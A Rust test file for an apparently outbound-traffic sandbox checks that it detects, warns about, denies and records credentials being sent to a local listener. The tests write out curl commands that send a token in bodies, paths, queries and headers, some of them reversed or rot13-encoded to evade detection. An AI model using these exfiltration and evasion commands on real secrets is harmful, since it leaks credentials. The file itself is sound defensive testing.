//! What the switches of a policy do to a finding, and what they cannot do.

use outgate_harness::audit::{records, text};
use outgate_harness::{Identity, lab_tests};

use crate::{Credential, assert_contained, assert_told, bash, confined, thief};

/// Sends `$T` in content.
const SEND: &str = "curl -sS -d \"t=$T\" $URL/";

fn sending(credential: &Credential) -> Vec<String> {
    bash(&format!("T='{}'; {SEND}", credential.text()))
}

lab_tests! {
    fn warnings_are_recorded_and_let_pass(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("records", Identity::Own).join("warn.jsonl");
        let sandbox = confined(lab, Identity::Own)
            .option("--inspect", "warn")
            .option("--audit", &file.to_string_lossy());
        let outcome = sandbox.run(&sending(&credential));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        let sent = String::from_utf8_lossy(&thief.take()).into_owned();
        assert!(sent.contains(credential.text()), "{sent}");
        let records = records(&file);
        let finding = records.iter().find(|record| text(record, "kind") == "finding");
        let finding = finding.unwrap_or_else(|| panic!("a finding: {records:?}"));
        assert_eq!(text(finding, "verdict"), "note");
        assert_eq!(finding["finding"]["detector"], "github-token");
        let all = std::fs::read_to_string(&file).expect("the record");
        assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
    }

    fn nothing_is_looked_at_where_the_scan_is_off(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let outcome = confined(lab, Identity::Own)
            .option("--inspect", "off")
            .run(&sending(&credential));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert!(!outcome.stderr.contains("outgate"), "{outcome}");
        assert_ne!(thief.take(), b"");
    }

    fn what_is_refused_is_recorded_and_never_written_down(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("records", Identity::Own).join("block.jsonl");
        let script = format!(
            "T='{}'; curl -sS $URL/$T; curl -sS \"$URL/?a=$T\"; curl -sS -H \"x: $T\" $URL/; {SEND}",
            credential.text(),
        );
        let outcome = confined(lab, Identity::Own)
            .option("--audit", &file.to_string_lossy())
            .run(&bash(&script));
        let sent = thief.take();
        assert_contained(&outcome, &sent, &credential, "all");
        assert_eq!(sent, b"");
        let records = records(&file);
        let findings: Vec<_> = records
            .iter()
            .filter(|record| text(record, "kind") == "finding")
            .collect();
        assert_eq!(findings.len(), 4, "{findings:?}");
        let mark = &findings[0]["finding"]["mark"];
        for finding in &findings {
            assert_eq!(text(finding, "verdict"), "deny");
            assert_eq!(&finding["finding"]["mark"], mark, "one value, one mark");
            assert_eq!(finding["finding"]["checked"], "passed");
        }
        let all = std::fs::read_to_string(&file).expect("the record");
        assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
    }

    fn what_was_refused_refuses_nothing_that_comes_later(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let script = format!("T='{}'; {SEND}; curl -sS -d fine $URL/", credential.text());
        let outcome = confined(lab, Identity::Own).run(&bash(&script));
        assert!(outcome.stdout.ends_with("arrived\n"), "{outcome}");
        assert_contained(&outcome, &thief.take(), &credential, "the first");
    }

    fn issuers_get_what_they_issued_and_nobody_else_does(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let script = format!(
            "curl -sS -H 'Authorization: Bearer {}' http://api.github.com:8099/user",
            credential.text(),
        );
        let sandbox = || {
            confined(lab, Identity::Own)
                .allow("http://api.github.com:8099")
                .pin("api.github.com:8099=127.0.0.1:8099")
        };
        let outcome = sandbox().run(&bash(&script));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        // A field that names the issuer does not make one.
        let other = script.replace("http://api.github.com:8099", "-H 'Host: api.github.com' $URL");
        let outcome = sandbox().run(&bash(&other));
        assert_ne!(outcome.stdout, "arrived\n", "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
    }

    fn an_operator_can_name_another_issuer_but_only_by_name(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let file = lab.folder("given", Identity::Own).join("scope.toml");
        let scope = "[[inspect.scope]]\ndetector = \"github-token\"\nhosts = [\"drop.example\"]\n";
        std::fs::write(&file, scope).expect("a policy");
        let sandbox = || confined(lab, Identity::Own).option("-p", &file.to_string_lossy());
        let outcome = sandbox().run(&sending(&credential));
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        for (wrong, says) in [
            (scope.replace("github-token", "no-such-thing"), "no-such-thing"),
            (scope.replace("drop.example", "*.example"), "wildcard"),
            (scope.replace("github-token", "db-uri"), "nobody can allow"),
        ] {
            std::fs::write(&file, wrong).expect("a policy");
            let outcome = sandbox().run(&sending(&credential));
            assert_ne!(outcome.code, Some(0), "{says}: {outcome}");
            assert!(outcome.stderr.contains(says), "{says}: {outcome}");
            assert_eq!(thief.take(), b"", "{says}");
        }
    }

    fn what_cannot_be_scanned_is_recorded_and_under_strict_refused(lab) {
        let thief = thief();
        let send = bash("printf 'what is this' | curl -sS -H 'Content-Encoding: rot47' --data-binary @- $URL/");
        let outcome = confined(lab, Identity::Own).run(&send);
        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
        assert_ne!(thief.take(), b"");
        let outcome = confined(lab, Identity::Own).flag("--strict").run(&send);
        assert!(outcome.stdout.contains("unknown coding"), "{outcome}");
        assert_eq!(thief.take(), b"", "{outcome}");
        let told = Credential::new();
        let outcome = confined(lab, Identity::Own).flag("--strict").run(&sending(&told));
        assert_told(&outcome, "strict");
        assert_eq!(thief.take(), b"", "{outcome}");
    }

    fn a_right_checksum_is_refused_also_back_to_front_and_with_letters_moved(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let moved = "$(printf %s $T | tr A-Za-z N-ZA-Mn-za-m)";
        for (name, way) in [
            ("reversed", "R=$(printf %s $T | rev); curl -sS -d \"a=$R\" $URL/; curl -sS -H \"x: $R\" $URL/; curl -sS \"$URL/?a=$R\""),
            ("rot13", &format!("R={moved}; curl -sS -d \"a=$R\" $URL/; curl -sS -H \"x: $R\" $URL/; curl -sS \"$URL/?a=$R\"")),
        ] {
            for strict in [false, true] {
                let mut sandbox = confined(lab, Identity::Own);
                if strict {
                    sandbox = sandbox.flag("--strict");
                }
                let outcome = sandbox.run(&bash(&format!("T='{}'; {way}", credential.text())));
                assert_eq!(thief.take(), b"", "{name}: {outcome}");
                assert_eq!(outcome.stdout.matches("outgate denied").count(), 3, "{name}: {outcome}");
            }
        }
    }
}
